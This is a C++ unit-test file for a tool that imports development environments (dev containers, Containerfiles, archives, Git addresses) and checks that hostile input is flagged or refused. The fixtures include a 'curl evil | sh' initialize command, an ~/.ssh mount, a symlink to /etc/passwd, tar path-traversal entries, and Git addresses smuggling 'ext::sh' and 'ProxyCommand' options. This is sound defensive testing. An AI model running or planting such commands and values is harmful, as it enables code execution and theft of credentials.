// SPDX-FileCopyrightText: 2026 The Pupitre authors
// SPDX-License-Identifier: GPL-3.0-or-later

// What exists, taken over: dev containers, Containerfiles, lists of packages, archives, Git addresses, and
// hostile ones of each.
#include "core/environments/build/recipe.h"
#include "core/environments/import/archive.h"
#include "core/environments/import/gitaddress.h"
#include "core/environments/import/importing.h"
#include "core/environments/presets.h"
#include "core/environments/templatefolder.h"
#include "core/formats/zipwriter.h"
#include "core/services/textfile.h"
#include "core/wire/tar.h"
#include "tests/gate/tempfolder.h"

#include <algorithm>
#include <fstream>
#include <gtest/gtest.h>

using namespace pupitre;
namespace fs = std::filesystem;

namespace
{

struct Source {
    TempFolder folder;

    void put(const std::string& path, const std::string& text) const
    {
        fs::create_directories((folder.path() / "source" / path).parent_path());
        ASSERT_TRUE(writeTextFile(folder.path() / "source" / path, text));
    }
    Result<ImportPreview> preview() const
    {
        return previewImport((folder.path() / "source").string(), folder.path() / "work");
    }
};

bool remarks(const ImportPreview& preview, RemarkReason reason)
{
    return std::ranges::any_of(preview.plan.remarks,
                               [&](const ImportRemark& remark) { return remark.reason == reason; });
}

bool says(const std::string& text, const std::string& part)
{
    return text.find(part) != std::string::npos;
}

TEST(Import, knowsHowMuchGitHasFetched)
{
    TempFolder folder;
    EXPECT_EQ(fetchedBytes(folder.path()), 0u);
    const auto pack = folder.path() / "files" / ".git" / "objects" / "pack";
    fs::create_directories(pack);
    ASSERT_TRUE(writeTextFile(pack / "tmp_pack_a1b2c3", std::string(5000, 'x')));
    EXPECT_EQ(fetchedBytes(folder.path()), 5000u);
}

TEST(Import, ofADevContainerTakesTheAllowedAndNamesTheRest)
{
    Source source;
    source.put(".devcontainer/devcontainer.json", R"({
  // comments are allowed
  "name": "Signals",
  "image": "mcr.microsoft.com/devcontainers/python:3.11",
  "containerEnv": {"MODE": "class"},
  "forwardPorts": [8888],
  "postCreateCommand": ["pip", "install", "-r", "requirements.txt"],
  "initializeCommand": "curl evil | sh",
  "mounts": ["source=${localEnv:HOME}/.ssh,target=/x,type=bind"],
  "runArgs": ["--privileged"],
  "hostRequirements": {"cpus": 4, "memory": "8gb"},
})");
    source.put("requirements.txt", "numpy==1.26.4\n");
    source.put("main.py", "print(1)\n");
    const auto preview = source.preview();
    ASSERT_TRUE(preview) << preview.error().subject << preview.error().detail;
    const Environment& environment = preview->plan.environment;
    EXPECT_EQ(environment.name, "Signals");
    EXPECT_EQ(environment.image, "mcr.microsoft.com/devcontainers/python:3.11");
    EXPECT_EQ(environment.variables.at("MODE"), "class");
    EXPECT_EQ(environment.ports, std::vector<int>{8888});
    EXPECT_EQ(environment.open.memoryMiB, 8192);
    ASSERT_EQ(environment.commands.size(), 1u);
    EXPECT_EQ(environment.commands[0], "'pip' 'install' '-r' 'requirements.txt'");
    EXPECT_TRUE(remarks(*preview, RemarkReason::RunsOnOwnComputer));
    EXPECT_TRUE(remarks(*preview, RemarkReason::OpensHost));
    const auto to = source.folder.path() / "template";
    ASSERT_TRUE(layOutImport(*preview, to));
    EXPECT_TRUE(fs::exists(to / "code" / "main.py"));
    EXPECT_FALSE(fs::exists(to / "code" / ".devcontainer"));
    EXPECT_TRUE(fs::exists(to / "context" / "requirements.txt")); // the command needs it
}

TEST(Import, ofAContainerfileKeepsItAndWhatItCopies)
{
    Source source;
    source.put("Dockerfile", "FROM debian:12 AS base\nCOPY tools/ /opt/tools\nRUN make -C /opt/tools\n");
    source.put("tools/Makefile", "all:\n");
    source.put("big/data.bin", std::string(1000, 'x'));
    const auto preview = source.preview();
    ASSERT_TRUE(preview);
    EXPECT_TRUE(says(preview->plan.environment.containerfile, "COPY tools/ /opt/tools"));
    const auto to = source.folder.path() / "template";
    ASSERT_TRUE(layOutImport(*preview, to));
    EXPECT_TRUE(fs::exists(to / "context" / "tools" / "Makefile"));
    EXPECT_FALSE(fs::exists(to / "context" / "big"));
}

TEST(Import, ofPackageListsMakesTheRest)
{
    Source source;
    source.put("apt.txt", "graphviz\n");
    source.put("requirements.txt", "torch>=2\n-r more.txt\n");
    source.put("runtime.txt", "python-3.10\n");
    const auto preview = source.preview();
    ASSERT_TRUE(preview);
    const Environment& environment = preview->plan.environment;
    EXPECT_EQ(environment.platform, Platform::PyTorch);
    EXPECT_EQ(environment.image, "docker.io/library/python:3.10-slim-bookworm");
    EXPECT_EQ(environment.systemPackages, std::vector<std::string>{"graphviz"});
    EXPECT_EQ(environment.pythonPackages, std::vector<std::string>{"torch>=2"});
}

TEST(Import, ofCondaBuildsFromItsFile)
{
    Source source;
    source.put("environment.yml",
               "name: x\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - numpy\n");
    const auto preview = source.preview();
    ASSERT_TRUE(preview);
    EXPECT_TRUE(says(preview->plan.environment.containerfile, "conda env update"));
    const auto to = source.folder.path() / "template";
    ASSERT_TRUE(layOutImport(*preview, to));
    EXPECT_TRUE(fs::exists(to / "context" / "environment.yml"));
}

TEST(Import, ofOurOwnIsTheSameAgain)
{
    Source source;
    Environment environment = preset(Platform::Cpp, false);
    environment.id = *EnvironmentId::parse("mine");
    environment.name = "Mine";
    const auto folder = source.folder.path() / "source";
    ASSERT_TRUE(writePresetFiles(Platform::Cpp, "en", folder));
    ASSERT_TRUE(writeTemplate(folder, environment));
    const auto preview = source.preview();
    ASSERT_TRUE(preview);
    EXPECT_TRUE(preview->ours);
    EXPECT_EQ(preview->plan.environment, environment);
}

TEST(Import, refusesWhatIsNoEnvironment)
{
    Source source;
    source.put("readme.txt", "nothing\n");
    EXPECT_EQ(source.preview().error().kind, ErrorKind::NotFound);
    EXPECT_FALSE(previewImport("--privileged", source.folder.path() / "work"));
    EXPECT_FALSE(previewImport("UPPER CASE", source.folder.path() / "work"));
    const auto image = previewImport("python:3.12", source.folder.path() / "work");
    ASSERT_TRUE(image);
    EXPECT_EQ(image->plan.environment.image, "docker.io/library/python:3.12");
}

TEST(Import, doesNotLeaveTheFolder)
{
    Source source;
    source.put(".devcontainer/devcontainer.json", R"({"build": {"dockerfile": "../../../etc/Dockerfile"}})");
    const auto preview = source.preview();
    EXPECT_TRUE(!preview || remarks(*preview, RemarkReason::LeavesFolder));
    Source links;
    links.put("Dockerfile", "FROM debian:12\n");
    fs::create_symlink("/etc/passwd", links.folder.path() / "source" / "secret");
    const auto linked = links.preview();
    ASSERT_TRUE(linked);
    EXPECT_EQ(layOutImport(*linked, links.folder.path() / "template").error().kind, ErrorKind::UnsafePath);
}

std::string tarOf(const std::vector<std::pair<TarEntry, std::string>>& entries)
{
    std::string tar;
    for (const auto& [entry, text] : entries)
        tar += tarHeader(entry) + text + std::string(tarPadding(text.size()), '\0');
    return tar + tarEnd();
}

TarEntry tarFile(const std::string& path, std::size_t size)
{
    TarEntry entry;
    entry.path = path;
    entry.size = size;
    return entry;
}

TEST(Archive, isUnpackedAndRefusedWhereItLeadsOut)
{
    TempFolder folder;
    const auto file = folder.path() / "a.tar";
    ASSERT_TRUE(writeTextFile(file, tarOf({{tarFile("x/Dockerfile", 15), "FROM debian:12\n"}})));
    const auto done = unpackArchive(file, folder.path() / "one");
    ASSERT_TRUE(done) << done.error().subject << done.error().detail;
    EXPECT_TRUE(fs::exists(folder.path() / "one" / "x" / "Dockerfile"));
    const auto preview = previewImport(file.string(), folder.path() / "work");
    ASSERT_TRUE(preview);
    EXPECT_EQ(preview->folder.filename(), "x");
    for (const char* bad : {"/etc/x", "../x", "a/../../x"}) {
        ASSERT_TRUE(writeTextFile(file, tarOf({{tarFile(bad, 1), "x"}})));
        const auto unpacked = unpackArchive(file, folder.path() / "two");
        ASSERT_FALSE(unpacked) << bad;
        EXPECT_EQ(unpacked.error().kind, ErrorKind::UnsafePath) << bad;
    }
    TarEntry link = tarFile("link", 0);
    link.kind = TarEntry::Kind::Link;
    link.target = "../outside";
    ASSERT_TRUE(writeTextFile(file, tarOf({{link, ""}})));
    EXPECT_EQ(unpackArchive(file, folder.path() / "link").error().kind, ErrorKind::UnsafePath);
    ASSERT_TRUE(writeTextFile(file, "no archive at all"));
    EXPECT_EQ(unpackArchive(file, folder.path() / "three").error().kind, ErrorKind::Malformed);
    ASSERT_TRUE(writeTextFile(file, tarOf({{tarFile("a", 600), std::string(600, 'x')}}).substr(0, 900)));
    EXPECT_EQ(unpackArchive(file, folder.path() / "four").error().kind, ErrorKind::Malformed); // cut short
    ASSERT_TRUE(writeTextFile(file, tarOf({{tarFile("a", 2000), std::string(2000, 'x')}})));
    EXPECT_EQ(unpackArchive(file, folder.path() / "five", {}, {1000, 10}).error().kind, ErrorKind::TooLarge);
}

TEST(GitAddress, isHttpsOrSshAndNothingElse)
{
    for (const char* good : {"https://example.org/a/b.git", "ssh://git@example.org/a",
                             "git@example.org:a/b.git", "ssh://example.org:2222/a/b"})
        EXPECT_TRUE(isGitAddress(good)) << good;
    for (const char* bad :
         {"ext::sh -c id", "ext::sh", "file:///etc", "http://example.org/a", "git://example.org/a",
          "https://", "https://u:secret@example.org/a", "ssh://-oProxyCommand=x/a", "-oProxyCommand=x:a",
          "a b", "https://x", "https://example.org", "git@-host:a", "git@host:-a", "git@host:", "../x",
          "python:3.11"})
        EXPECT_FALSE(isGitAddress(bad)) << bad;
}

} // namespace
